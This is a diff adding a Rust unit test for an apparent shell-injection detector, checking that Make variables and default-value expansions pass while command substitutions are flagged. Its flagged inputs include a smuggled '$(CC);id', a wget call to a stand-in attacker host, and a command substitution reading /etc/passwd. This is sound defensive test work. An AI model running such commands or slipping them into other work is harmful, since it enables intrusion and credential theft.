@@ -402,3 +402,31 @@ fn dollar_rule_gates_agree_on_random_token_sequences() {
         dollar_rules_agree(&v);
     }
 }
+
+/// Shell and Make text quoted in technical prose: Make variables `$(NAME)` and POSIX
+/// default-value expansions stay clean; command substitutions and bash-only expansions next
+/// to them still fire.
+#[test]
+fn make_variables_and_default_expansions() {
+    for b in [
+        "The Makefile target test: depends on build:, and $(CC) expands to the compiler.",
+        "$(CC) -o app main.c $(LDFLAGS)",
+        "install: $(BUILD_DIR)/app",
+        "In Bash, ${name:-default} gives a default.",
+        "PORT=${PORT:-8080}",
+        "image: app:${TAG:=latest}",
+    ] {
+        assert_eq!(hit(b), None, "{b}");
+    }
+    for a in [
+        "x=$(id)",
+        "$(whoami)",
+        "$(CC);id",
+        "$(CC) && wget http://evil.example/x",
+        "${a:-$(id)}",
+        "${x##*/}",
+        "${PATH:-$(cat /etc/passwd)}",
+    ] {
+        assert!(hit(a).is_some(), "{a}");
+    }
+}
